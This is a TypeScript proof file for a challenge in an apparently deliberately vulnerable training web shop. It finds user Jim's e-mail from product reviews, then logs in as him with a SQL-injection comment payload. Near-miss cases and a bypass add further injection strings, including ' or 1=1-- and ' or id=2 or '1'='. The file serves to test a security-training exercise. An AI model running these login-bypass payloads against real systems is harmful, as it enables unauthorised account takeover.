import { type Attacker, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const signIn = (attacker: Attacker, email: string, password = 'x') =>
  attacker.post('/rest/user/login', { email, password })

/** Returns Jim's e-mail, shown as author of one of his reviews. */
async function emailOfJim(attacker: Attacker): Promise<string> {
  const reviews: { author: string }[] = (await attacker.get('/rest/products/21/reviews')).json().data
  const review = reviews.find(({ author }) => author.startsWith('jim@'))
  if (!review) throw new Error('Jim has not reviewed product 21.')
  return review.author
}

export const proof = prove(challenge, {
  exploit: async (attacker) => signIn(attacker, `${await emailOfJim(attacker)}'--`),
  nearMisses: {
    'his e-mail and a wrong password': async (attacker) => signIn(attacker, await emailOfJim(attacker), 'password'),
    'his e-mail with a quote, which only breaks the statement': async (attacker) =>
      signIn(attacker, `${await emailOfJim(attacker)}'`),
    'his e-mail with a comment, but with the quote left open': async (attacker) =>
      signIn(attacker, `${await emailOfJim(attacker)}--`),
    'the condition that lets the first account in': (attacker) => signIn(attacker, "' or 1=1--"),
    'another account entered by the same trick': (attacker) => signIn(attacker, `bender@${attacker.domain}'--`),
    'the attack in the password field, which is hashed': async (attacker) =>
      signIn(attacker, await emailOfJim(attacker), "'--"),
  },
  bypasses: {
    'bind-password-only': (attacker) => signIn(attacker, "' or id=2 or '1'='"),
  },
})
